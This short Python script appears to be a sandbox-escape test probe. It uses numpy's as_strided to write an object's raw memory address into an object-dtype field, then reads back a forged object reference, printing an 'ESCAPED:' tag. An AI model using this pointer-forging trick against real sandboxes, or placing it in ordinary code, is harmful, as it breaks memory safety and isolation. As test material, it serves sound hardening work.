"""The same by as_strided."""
import numpy as np
from numpy.lib.stride_tricks import as_strided

secret, found = b"0123456789abcdef", np.zeros(3, [("it", "O"), ("count", "i8")])
as_strided(found["count"], (2,), (8,))[1] = id(secret)
print("ESCAPED:object_fields_as_strided", found["it"][1])
